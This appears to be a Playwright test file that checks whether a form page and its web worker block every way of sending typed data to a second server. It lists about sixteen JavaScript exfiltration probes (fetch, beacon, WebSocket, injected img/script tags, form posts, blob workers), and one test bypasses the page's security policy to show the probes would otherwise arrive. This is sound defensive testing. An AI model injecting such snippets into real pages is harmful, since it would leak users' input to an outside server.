"""Somebody slips a line into the page that sends what was typed to another server. The browser
refuses each way of sending, on the page and in the letter writer behind it, and the other
server hears nothing.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, Worker

from tests.journeys import form
from tests.journeys.conftest import Console, NewContext
from tests.journeys.server import Served, serve

WAYS = {
    "fetch": "to => fetch(to).then(() => 'sent', () => 'refused')",
    "fetch without answer": "to => fetch(to, {mode: 'no-cors', method: 'POST', body: 'x'})"
    ".then(() => 'sent', () => 'refused')",
    "XMLHttpRequest": """to => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => done(request.status ? "sent" : "refused");
      request.open("POST", to);
      request.send("x");
    })""",
    "beacon": "to => { navigator.sendBeacon(to, 'x'); return 'refused'; }",
    "EventSource": """to => new Promise((done) => {
      const source = new EventSource(to);
      source.onerror = () => { source.close(); done("refused"); };
    })""",
    "WebSocket": """to => new Promise((done) => {
      try {
        const socket = new WebSocket(to.replace("http", "ws"));
        socket.onopen = () => done("sent");
        socket.onerror = () => done("refused");
      } catch { done("refused"); }
    })""",
    **{
        tag: f"""to => new Promise((done) => {{
          const $element = Object.assign(document.createElement("{tag}"), {properties});
          $element.onload = () => done("sent");
          $element.onerror = () => done("refused");
          document.body.append($element);
          setTimeout(() => done("refused"), 300);
        }})"""
        for tag, properties in {
            "img": "{src: to}",
            "script": "{src: to}",
            "link": '{rel: "stylesheet", href: to}',
            "video": "{src: to}",
            "object": "{data: to}",
            "embed": "{src: to}",
        }.items()
    },
    "frame": """to => new Promise((done) => {
      const $frame = document.createElement("iframe");
      $frame.onload = () => done("refused");
      $frame.src = to;
      document.body.append($frame);
    })""",
    "form": """to => new Promise((done) => {
      const $form = document.createElement("form");
      Object.assign($form, {action: to, method: "post", target: "_self"});
      document.body.append($form);
      addEventListener("securitypolicyviolation", () => done("refused"), {once: true});
      $form.submit();
    })""",
    "worker": """to => new Promise((done) => {
      const source = new Blob([`fetch("${to}", {mode: "no-cors"})
        .then(() => postMessage("sent"), () => postMessage("refused"))`]);
      const worker = new Worker(URL.createObjectURL(source));
      worker.onmessage = ({data}) => done(data);
      worker.onerror = () => done("refused");
    })""",
}
"""Ways to send something somewhere, as functions of an address."""


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Served]:
    """Another server, on another port."""
    with serve(tmp_path) as other:
        yield other


def test_no_way_out_of_the_page(appeal: Page, elsewhere: Served, console: Console) -> None:
    refused = {way: appeal.evaluate(script, elsewhere.address) for way, script in WAYS.items()}
    assert refused == dict.fromkeys(WAYS, "refused")
    assert elsewhere.requests == []
    console.forgive("Content Security Policy")
    console.forgive("violates the following")


def test_the_other_server_would_hear_it_without_the_policy(
    new_context: NewContext, site: Served, elsewhere: Served, console: Console
) -> None:
    """A probe that cannot arrive proves nothing."""
    page = new_context(bypass_csp=True).new_page()
    page.goto(site.address + "privacy.html")
    for way, script in WAYS.items():
        heard = len(elsewhere.requests)
        page.evaluate(f"to => void ({script})(to)", elsewhere.address)
        assert elsewhere.wait_for(heard + 1), way
    console.complaints.clear()


def test_no_way_out_of_the_letter_writer_while_it_loads(
    new_context: NewContext, site: Served, elsewhere: Served, console: Console
) -> None:
    context = new_context()
    held: list[Route] = []
    context.route("**/engine/bundle/loader.*", lambda route: held.append(route))
    page = context.new_page()
    with page.expect_request("**/engine/bundle/loader.*"):
        page.goto(site.address + "appeal.html")
    assert _fetch_in_worker(form.letter_writer(page), elsewhere) == "refused"
    assert elsewhere.requests == []
    for route in held:
        route.continue_()
    console.forgive("Content Security Policy")
    console.forgive("violates the following")


def test_the_letter_writer_has_no_network_once_everything_is_loaded(
    appeal: Page, elsewhere: Served, console: Console
) -> None:
    worker = form.letter_writer(appeal)
    for way in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker"):
        assert worker.evaluate(f"typeof {way}") == "undefined"
    load = "to => import(to).then(() => 'sent', () => 'refused')"
    assert worker.evaluate(load, elsewhere.address + "module.js") == "refused"
    assert elsewhere.requests == []
    console.forgive("Content Security Policy")
    console.forgive("violates the following")


def _fetch_in_worker(worker: Worker, elsewhere: Served) -> str:
    script = "to => fetch(to, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
    return str(worker.evaluate(script, elsewhere.address))
